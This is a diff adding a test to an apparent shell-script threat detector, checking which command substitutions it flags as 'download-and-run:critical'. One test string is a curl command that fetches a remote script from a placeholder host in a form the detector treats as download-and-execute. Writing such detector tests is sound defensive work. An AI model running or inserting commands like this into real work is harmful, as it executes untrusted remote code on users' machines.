@@ -186,6 +186,13 @@ describe.for(Object.entries(THREATS))('%s', ([sign, scripts]) => {
   });
 });
 
+test('a substitution whose output goes into a file brings nothing that could run', () => {
+  expect(signsOf('until `curl -sG http://127.0.0.1/ >& out`; do sleep 1; done')).not.toContain(
+    'download-and-run:critical',
+  );
+  expect(signsOf('`curl -s http://get.example/i.sh 2> log`')).toContain('download-and-run:critical');
+});
+
 describe('what is done every day raises nothing', () => {
   test.for([
     'set -euo pipefail; cd "$(dirname "$0")"; make build',
